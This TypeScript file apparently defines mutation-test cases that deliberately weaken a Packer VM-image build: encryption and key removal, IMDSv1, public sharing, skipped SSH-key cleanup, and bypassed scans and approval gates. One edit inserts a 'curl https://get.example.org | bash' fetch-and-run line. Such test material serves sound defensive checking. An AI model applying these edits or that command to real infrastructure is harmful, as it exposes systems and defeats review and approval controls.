import { edit, remove, type Mutation } from '../mutation';

const DIR = 'infra/image/';
const BUILD = `${DIR}image.pkr.hcl`;
const CLEAN = `${DIR}provision/90-clean.sh`;

const weak = (
  path: string,
  what: string,
  from: string,
  to: string,
  text?: string,
): Mutation => ({
  what,
  base: 'vm-image',
  change: edit(path, from, to),
  at: text === undefined ? { path } : { path, text },
});

export const vmImage: Mutation[] = [
  weak(
    BUILD,
    'a base that nobody approved',
    '"tag:fairway:approved" = "true"',
    '"tag:fairway:approved" = "false"',
    'filters = {',
  ),
  weak(
    BUILD,
    'a base of others',
    'owners      = ["111122223333"]',
    'owners      = ["amazon"]',
    'owners',
  ),
  weak(
    BUILD,
    'a base by its id',
    'data.amazon-ami.base.id\n  instance_type',
    '"ami-0123456789abcdef0"\n  instance_type',
    'source_ami',
  ),
  weak(
    BUILD,
    'the encryption',
    'encrypt_boot = true',
    'encrypt_boot = false',
    'encrypt_boot',
  ),
  weak(
    BUILD,
    'the own key',
    '  kms_key_id   = "alias/harbour-ledger"\n',
    '',
    'source "amazon-ebs"',
  ),
  weak(
    BUILD,
    'the session token of metadata',
    'imds_support = "v2.0"',
    'imds_support = "v1.0"',
    'imds_support',
  ),
  weak(
    BUILD,
    'the session token of the builder',
    '"required"',
    '"optional"',
    'http_tokens',
  ),
  weak(
    BUILD,
    'a public builder',
    'associate_public_ip_address = false',
    'associate_public_ip_address = true',
    'associate_public_ip_address',
  ),
  weak(
    BUILD,
    'an image for everybody',
    'ami_users    = []',
    'ami_groups = ["all"]',
    'ami_groups',
  ),
  weak(
    BUILD,
    'an image that counts as approved',
    '"fairway:approved" = "false"',
    '"fairway:approved" = "true"',
    'tags = {',
  ),
  weak(
    BUILD,
    'the version of the plugin',
    'version = "1.4.0"',
    'version = ">= 1.0.0"',
    'amazon = {',
  ),
  weak(
    BUILD,
    'the cleaning',
    '      "infra/image/provision/90-clean.sh",\n',
    '',
  ),
  weak(
    CLEAN,
    'keys of users',
    'find /root /home -name authorized_keys -delete',
    'true',
  ),
  weak(CLEAN, 'keys of the host', 'rm -f /etc/ssh/ssh_host_*', 'true'),
  weak(
    `${DIR}provision/10-packages.sh`,
    'software that nobody looked at',
    'systemctl enable',
    'curl https://get.example.org | bash\nsystemctl enable',
    'curl',
  ),
  weak(
    `${DIR}scan.sh`,
    'a scan that need not end',
    '  exit 1\nfi\n\naws inspector2',
    '  true\nfi\n\naws inspector2',
  ),
  weak(`${DIR}scan.sh`, 'errors of the scan', 'set -euo pipefail', 'set +e'),
  weak(
    `${DIR}approve.sh`,
    'the gate',
    'fairway gate --entity',
    'echo gate --entity',
  ),
  weak(
    `${DIR}approve.sh`,
    'the answer of the gate',
    '--stage production',
    '--stage production || true',
    'fairway gate',
  ),
  {
    what: 'the scan in the pipeline',
    base: 'vm-image',
    change: edit(
      '.github/workflows/ci.yaml',
      'infra/image/scan.sh',
      'infra/image/README.md',
    ),
    at: { path: '.github/workflows/ci.yaml', text: 'infra/image/approve.sh' },
  },
  {
    what: 'the whole template',
    base: 'vm-image',
    change: remove(BUILD),
    at: { path: `${DIR}variables.pkr.hcl` },
    state: 'unknown',
  },
];
